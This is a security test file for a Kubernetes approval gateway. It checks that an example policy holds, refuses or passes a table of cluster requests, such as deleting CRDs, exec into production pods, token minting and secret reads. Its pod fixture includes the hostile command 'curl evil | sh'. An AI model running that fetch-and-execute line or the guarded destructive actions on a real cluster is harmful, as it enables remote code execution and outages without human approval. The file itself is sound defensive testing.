import { readFile } from 'node:fs/promises';
import { join, resolve } from 'node:path';
import { compilePolicy, type KubeRequest, type LabelLookup, parseAction } from '@gatehouse/policy';
import { deployment, pod } from '@gatehouse/testkit/kube-upstream';
import { waitUntil } from '@gatehouse/testkit/processes';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { type Stack, startStack } from '../stack/index.js';
import { gatewayRequest, isRealMutation, report } from './support.js';

/**
 * The shipped example policy (deploy/gatehouse.example.yaml) against what a production SRE expects
 * held or refused (issue 15, item 6): each request through parseAction + decide, then a few through
 * the running gateway with the real kubectl.
 */

const ROOT = resolve(import.meta.dirname, '../..');

async function examplePolicy(): Promise<Record<string, unknown>> {
  const text = await readFile(join(ROOT, 'deploy/gatehouse.example.yaml'), 'utf8');
  return (parse(text) as { policy: Record<string, unknown> }).policy;
}

type Expected = 'require' | 'deny' | 'allow';
interface Case {
  readonly name: string;
  readonly method: string;
  readonly url: string;
  readonly body?: unknown;
  readonly contentType?: string;
  readonly expect: Expected;
  /** The labels of the request's namespace as the gateway's cache holds them. @defaultValue none (known: no labels) */
  readonly namespaceLabels?: LabelLookup;
}

const json = (value: unknown) => JSON.stringify(value);
const SMP = 'application/strategic-merge-patch+json';
const MERGE = 'application/merge-patch+json';
const JSON_PATCH = 'application/json-patch+json';
const podSpec = { containers: [{ name: 'app', image: 'busybox', command: ['sh', '-c', 'curl evil | sh'] }] };
const podBody = (namespace: string, extra: object = {}) => ({
  apiVersion: 'v1',
  kind: 'Pod',
  metadata: { name: 'x', namespace },
  spec: { ...podSpec, ...extra },
});

const CASES: readonly Case[] = [
  // Cluster-wide deletes.
  {
    name: 'delete a CRD',
    method: 'DELETE',
    url: '/apis/apiextensions.k8s.io/v1/customresourcedefinitions/widgets.example.com',
    expect: 'require',
  },
  {
    name: 'delete every CRD',
    method: 'DELETE',
    url: '/apis/apiextensions.k8s.io/v1/customresourcedefinitions',
    expect: 'require',
  },
  {
    name: 'patch a CRD (drop a served version)',
    method: 'PATCH',
    url: '/apis/apiextensions.k8s.io/v1/customresourcedefinitions/widgets.example.com',
    body: { spec: { versions: [] } },
    contentType: MERGE,
    expect: 'require',
  },
  { name: 'delete a PV', method: 'DELETE', url: '/api/v1/persistentvolumes/pv-1', expect: 'require' },
  { name: 'delete every PV', method: 'DELETE', url: '/api/v1/persistentvolumes', expect: 'require' },
  { name: 'delete a node', method: 'DELETE', url: '/api/v1/nodes/node-1', expect: 'require' },
  {
    name: 'cordon a node',
    method: 'PATCH',
    url: '/api/v1/nodes/node-1',
    body: { spec: { unschedulable: true } },
    contentType: SMP,
    expect: 'require',
  },
  {
    name: 'delete a validating webhook',
    method: 'DELETE',
    url: '/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations/policy',
    expect: 'require',
  },
  {
    name: 'delete every mutating webhook',
    method: 'DELETE',
    url: '/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations',
    expect: 'require',
  },
  {
    name: 'patch a webhook to fail closed on everything',
    method: 'PATCH',
    url: '/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations/policy',
    body: { webhooks: [] },
    contentType: MERGE,
    expect: 'require',
  },
  { name: 'deletecollection of namespaces', method: 'DELETE', url: '/api/v1/namespaces', expect: 'require' },
  {
    name: 'delete namespace prod (not only prod-*)',
    method: 'DELETE',
    url: '/api/v1/namespaces/prod',
    expect: 'require',
  },
  // Production namespaces: prod, prod-*, production, production-*, kube-system.
  {
    name: 'delete a pod in prod',
    method: 'DELETE',
    url: '/api/v1/namespaces/prod/pods/web-1',
    expect: 'require',
  },
  {
    name: 'delete a pod in production',
    method: 'DELETE',
    url: '/api/v1/namespaces/production/pods/web-1',
    expect: 'require',
  },
  {
    name: 'delete a pod in production-eu',
    method: 'DELETE',
    url: '/api/v1/namespaces/production-eu/pods/web-1',
    expect: 'require',
  },
  {
    name: 'delete coredns in kube-system',
    method: 'DELETE',
    url: '/api/v1/namespaces/kube-system/pods/coredns-1',
    expect: 'require',
  },
  {
    name: 'exec in production',
    method: 'POST',
    url: '/api/v1/namespaces/production/pods/web-1/exec?command=sh',
    expect: 'require',
  },
  // Running code in production.
  {
    name: 'create a pod in prod-api',
    method: 'POST',
    url: '/api/v1/namespaces/prod-api/pods',
    body: podBody('prod-api'),
    contentType: 'application/json',
    expect: 'require',
  },
  {
    name: 'create a pod with another service account in prod',
    method: 'POST',
    url: '/api/v1/namespaces/prod/pods',
    body: podBody('prod', { serviceAccountName: 'deployer' }),
    contentType: 'application/json',
    expect: 'require',
  },
  {
    name: 'kubectl debug --copy-to (a new pod)',
    method: 'POST',
    url: '/api/v1/namespaces/prod-api/pods?fieldManager=kubectl-debug',
    body: podBody('prod-api'),
    contentType: 'application/json',
    expect: 'require',
  },
  {
    name: 'create a job in prod',
    method: 'POST',
    url: '/apis/batch/v1/namespaces/prod/jobs',
    body: { metadata: { name: 'j' }, spec: { template: { spec: podSpec } } },
    contentType: 'application/json',
    expect: 'require',
  },
  {
    name: 'kubectl set image',
    method: 'PATCH',
    url: '/apis/apps/v1/namespaces/prod-api/deployments/web',
    body: { spec: { template: { spec: { containers: [{ name: 'app', image: 'evil:latest' }] } } } },
    contentType: SMP,
    expect: 'require',
  },
  {
    name: 'kubectl set image on a pod',
    method: 'PATCH',
    url: '/api/v1/namespaces/prod-api/pods/web-1',
    body: { spec: { containers: [{ name: 'app', image: 'evil:latest' }] } },
    contentType: SMP,
    expect: 'require',
  },
  {
    name: 'pod-template JSON patch',
    method: 'PATCH',
    url: '/apis/apps/v1/namespaces/prod-api/deployments/web',
    body: [{ op: 'replace', path: '/spec/template/spec/containers/0/image', value: 'evil' }],
    contentType: JSON_PATCH,
    expect: 'require',
  },
  {
    name: 'CronJob job template',
    method: 'PATCH',
    url: '/apis/batch/v1/namespaces/prod/cronjobs/nightly',
    body: { spec: { jobTemplate: { spec: { template: { spec: podSpec } } } } },
    contentType: MERGE,
    expect: 'require',
  },
  {
    name: 'DaemonSet nodeSelector in kube-system',
    method: 'PATCH',
    url: '/apis/apps/v1/namespaces/kube-system/daemonsets/cni',
    body: { spec: { template: { spec: { nodeSelector: { none: 'x' } } } } },
    contentType: SMP,
    expect: 'require',
  },
  {
    name: 'replace a deployment in prod',
    method: 'PUT',
    url: '/apis/apps/v1/namespaces/prod/deployments/web',
    body: { metadata: { name: 'web' }, spec: { replicas: 3, template: { spec: podSpec } } },
    contentType: 'application/json',
    expect: 'require',
  },
  {
    name: 'token for a prod service account',
    method: 'POST',
    url: '/api/v1/namespaces/prod/serviceaccounts/deployer/token',
    body: { spec: {} },
    contentType: 'application/json',
    expect: 'deny',
  },
  {
    name: 'token for a kube-system service account',
    method: 'POST',
    url: '/api/v1/namespaces/kube-system/serviceaccounts/admin/token',
    body: { spec: {} },
    contentType: 'application/json',
    expect: 'deny',
  },
  {
    name: 'approve a CSR',
    method: 'PUT',
    url: '/apis/certificates.k8s.io/v1/certificatesigningrequests/agent/approval',
    body: {},
    contentType: 'application/json',
    expect: 'deny',
  },
  { name: 'read a prod secret', method: 'GET', url: '/api/v1/namespaces/prod/secrets/db', expect: 'require' },
  { name: 'list prod secrets', method: 'GET', url: '/api/v1/namespaces/prod-api/secrets', expect: 'require' },
  // Gatehouse's own namespace: denied, not held.
  {
    name: 'exec into gatehouse',
    method: 'POST',
    url: '/api/v1/namespaces/gatehouse/pods/gatehouse-redis-0/exec?command=redis-cli',
    expect: 'deny',
  },
  {
    name: 'port-forward to gatehouse',
    method: 'POST',
    url: '/api/v1/namespaces/gatehouse/pods/gatehouse-redis-0/portforward?ports=6379',
    expect: 'deny',
  },
  {
    name: 'service proxy into gatehouse',
    method: 'GET',
    url: '/api/v1/namespaces/gatehouse/services/gatehouse-redis:6379/proxy/',
    expect: 'deny',
  },
  {
    name: 'create a pod in gatehouse',
    method: 'POST',
    url: '/api/v1/namespaces/gatehouse/pods',
    body: podBody('gatehouse'),
    contentType: 'application/json',
    expect: 'deny',
  },
  {
    name: "patch gatehouse's config",
    method: 'PATCH',
    url: '/api/v1/namespaces/gatehouse/configmaps/gatehouse-config',
    body: { data: {} },
    contentType: MERGE,
    expect: 'deny',
  },
  {
    name: "read gatehouse's secrets",
    method: 'GET',
    url: '/api/v1/namespaces/gatehouse/secrets/gatehouse-slack',
    expect: 'deny',
  },
  {
    name: 'delete the gatehouse namespace',
    method: 'DELETE',
    url: '/api/v1/namespaces/gatehouse',
    expect: 'deny',
  },
  // Outages by another name.
  {
    name: 'Service selector matching nothing',
    method: 'PATCH',
    url: '/api/v1/namespaces/prod/services/web',
    body: { spec: { selector: { app: 'none' } } },
    contentType: MERGE,
    expect: 'require',
  },
  {
    name: 'deny-all NetworkPolicy',
    method: 'POST',
    url: '/apis/networking.k8s.io/v1/namespaces/prod/networkpolicies',
    body: { metadata: { name: 'deny' }, spec: { podSelector: {} } },
    contentType: 'application/json',
    expect: 'require',
  },
  {
    name: 'HPA bounds',
    method: 'PATCH',
    url: '/apis/autoscaling/v2/namespaces/prod/horizontalpodautoscalers/web',
    body: { spec: { maxReplicas: 1 } },
    contentType: MERGE,
    expect: 'require',
  },
  {
    name: 'drain: evict a prod pod',
    method: 'POST',
    url: '/api/v1/namespaces/prod/pods/web-1/eviction',
    body: { metadata: { name: 'web-1' } },
    contentType: 'application/json',
    expect: 'require',
  },
  {
    name: 'spec.replicas: 0 on a custom resource',
    method: 'PATCH',
    url: '/apis/argoproj.io/v1alpha1/namespaces/prod/rollouts/web',
    body: { spec: { replicas: 0 } },
    contentType: MERGE,
    expect: 'require',
  },
  {
    name: 'spec.replicas: 0 on a custom resource in dev',
    method: 'PATCH',
    url: '/apis/example.com/v1/namespaces/dev/widgets/w',
    body: { spec: { replicas: 0 } },
    contentType: MERGE,
    expect: 'require',
  },
  {
    name: 'replicas 4294967296',
    method: 'PATCH',
    url: '/apis/apps/v1/namespaces/dev/deployments/web',
    body: { spec: { replicas: 4294967296 } },
    contentType: SMP,
    expect: 'require',
  },
  // Everyday work passes.
  { name: 'read pods in prod', method: 'GET', url: '/api/v1/namespaces/prod/pods', expect: 'allow' },
  { name: 'logs in prod', method: 'GET', url: '/api/v1/namespaces/prod/pods/web-1/log', expect: 'allow' },
  {
    name: 'scale a prod deployment to 5',
    method: 'PATCH',
    url: '/apis/apps/v1/namespaces/prod/deployments/web/scale',
    body: { spec: { replicas: 5 } },
    contentType: MERGE,
    expect: 'allow',
  },
  {
    name: 'label a prod pod',
    method: 'PATCH',
    url: '/api/v1/namespaces/prod/pods/web-1',
    body: { metadata: { labels: { triage: 'yes' } } },
    contentType: MERGE,
    expect: 'allow',
  },
  {
    name: 'annotate a prod deployment',
    method: 'PATCH',
    url: '/apis/apps/v1/namespaces/prod/deployments/web',
    body: { metadata: { annotations: { note: 'x' } } },
    contentType: SMP,
    expect: 'allow',
  },
  {
    name: 'create a pod in dev',
    method: 'POST',
    url: '/api/v1/namespaces/dev/pods',
    body: podBody('dev'),
    contentType: 'application/json',
    expect: 'allow',
  },
  {
    name: 'exec in dev',
    method: 'POST',
    url: '/api/v1/namespaces/dev/pods/x/exec?command=sh',
    expect: 'allow',
  },
  { name: 'read secrets in dev', method: 'GET', url: '/api/v1/namespaces/dev/secrets', expect: 'allow' },
  { name: 'read a node', method: 'GET', url: '/api/v1/nodes/node-1', expect: 'allow' },
  {
    name: 'prod-ish name that is not production',
    method: 'DELETE',
    url: '/api/v1/namespaces/products/pods/x',
    expect: 'allow',
  },
  // Production by label, whatever the namespace is called.
  {
    name: 'delete in a namespace labelled env=production',
    method: 'DELETE',
    url: '/api/v1/namespaces/checkout/pods/x',
    namespaceLabels: { labels: { env: 'production' } },
    expect: 'require',
  },
  {
    name: 'delete in a namespace labelled env=dev',
    method: 'DELETE',
    url: '/api/v1/namespaces/checkout/pods/x',
    namespaceLabels: { labels: { env: 'dev' } },
    expect: 'allow',
  },
  {
    name: 'delete where the namespace labels are unknown (cache not synced): held',
    method: 'DELETE',
    url: '/api/v1/namespaces/checkout/pods/x',
    namespaceLabels: { unknown: 'the namespace cache of cluster prod has not synced' },
    expect: 'require',
  },
  {
    name: 'a dry run of a CRD delete',
    method: 'DELETE',
    url: '/apis/apiextensions.k8s.io/v1/customresourcedefinitions/widgets.example.com?dryRun=All',
    expect: 'allow',
  },
];

const NO_LABELS: LabelLookup = { labels: {} };

function request(c: Case): KubeRequest {
  const [path = '', query = ''] = c.url.split('?');
  const body = c.body === undefined ? undefined : new TextEncoder().encode(json(c.body));
  return {
    method: c.method,
    path,
    query,
    headers: c.contentType ? { 'content-type': c.contentType } : {},
    body,
  };
}

describe('security: the shipped example policy holds what an SRE expects', () => {
  it('every listed request: held, refused or passed as the table says (parseAction + decide)', async () => {
    const policy = compilePolicy(await examplePolicy(), { knownGroups: ['sre-oncall'] });
    const outcomes = CASES.map((c) => {
      const decision = policy.decide({
        cluster: 'prod',
        agent: 'agent-oncall',
        action: parseAction(request(c)),
        namespaceLabels: c.namespaceLabels ?? NO_LABELS,
      });
      return { name: c.name, expected: c.expect, effect: decision.effect, rule: decision.rule };
    });
    const wrong = outcomes.filter((o) => o.effect !== o.expected);
    const count = (effect: Expected) => outcomes.filter((o) => o.effect === effect).length;
    report(
      'example policy',
      wrong.length,
      CASES.length,
      'requests decided otherwise than an SRE expects',
      `${count('require')} held, ${count('deny')} denied, ${count('allow')} allowed`,
    );
    expect(wrong).toEqual([]);
    // A namespace delete needs two people even where a prod rule asks for one.
    const prod = policy.decide({ cluster: 'prod', agent: 'a', action: parseAction(request(CASES[11]!)) });
    expect(prod).toMatchObject({ effect: 'require', approvals: 2 });
  });
});

describe('security: the example policy through the running gateway and kubectl', () => {
  let stack: Stack;
  const HOLD_MS = 1500;

  beforeAll(async () => {
    stack = await startStack({ policy: await examplePolicy() });
    stack.upstream.store.put(deployment({ name: 'web', namespace: 'prod' }, 3));
    stack.upstream.store.put(pod({ name: 'web-1', namespace: 'prod' }));
    stack.upstream.store.put({ apiVersion: 'v1', kind: 'Node', metadata: { name: 'node-1' } });
  });
  afterAll(async () => {
    await stack?.stop();
  });

  it('kubectl: set image, run and debug --copy-to in prod, cordon, a production secret are held; exec into gatehouse and a token are refused (403)', async () => {
    const held = [
      ['set', 'image', 'deployment/web', 'app=evil:latest', '-n', 'prod'],
      ['run', 'shell', '--image=busybox', '-n', 'prod', '--', 'sh', '-c', 'id'],
      ['cordon', 'node-1'],
      ['get', 'secret', 'db', '-n', 'production'],
      ['debug', 'web-1', '-n', 'prod', '--copy-to=web-debug', '--image=busybox', '--profile=general'],
    ];
    const heldBefore = await heldNow(stack);
    const running = held.map((args) => stack.kubectl(args));
    await waitUntil(
      'every kubectl held',
      async () => (await heldNow(stack)) >= heldBefore + held.length,
      30_000,
    ).catch((error: unknown) => {
      const states = running.map((k) => `${k.args.join(' ')} running=${k.running()} ${k.stderr()}`);
      throw new Error(`${String(error)}\n${states.join('\n')}`);
    });
    const stillHeld = running.filter((k) => k.running()).length;
    for (const k of running) await k.kill();
    const denied = await gatewayRequest(stack, {
      method: 'POST',
      path: '/clusters/payments/api/v1/namespaces/gatehouse/pods/gatehouse-redis-0/exec?command=redis-cli&stdout=true',
      holdMs: HOLD_MS,
    });
    const token = await gatewayRequest(stack, {
      method: 'POST',
      path: '/clusters/payments/api/v1/namespaces/prod/serviceaccounts/deployer/token',
      body: json({ apiVersion: 'authentication.k8s.io/v1', kind: 'TokenRequest', spec: {} }),
      headers: { 'content-type': 'application/json' },
      holdMs: HOLD_MS,
    });
    const reached = stack.upstream.requests.filter(isRealMutation);
    report(
      'example policy via kubectl',
      reached.length,
      held.length + 2,
      'reached the cluster',
      `${stillHeld} held, exec into gatehouse ${denied.status}, token request ${token.status}`,
    );
    expect(stillHeld).toBe(held.length);
    expect(reached).toEqual([]);
    expect(denied.status).toBe(403);
    expect(JSON.parse(denied.body).message).toContain("Gatehouse's own namespace");
    expect(token.status).toBe(403);
    expect(stack.upstream.store.find('deployments.apps', 'prod', 'web')).toBeDefined();
  });
});

async function heldNow(stack: Stack): Promise<number> {
  const metrics = await gatewayRequest(stack, { method: 'GET', path: '/metrics', token: undefined });
  return Number(/^gatehouse_gateway_held_requests (\d+)/m.exec(metrics.body)?.[1] ?? Number.NaN);
}
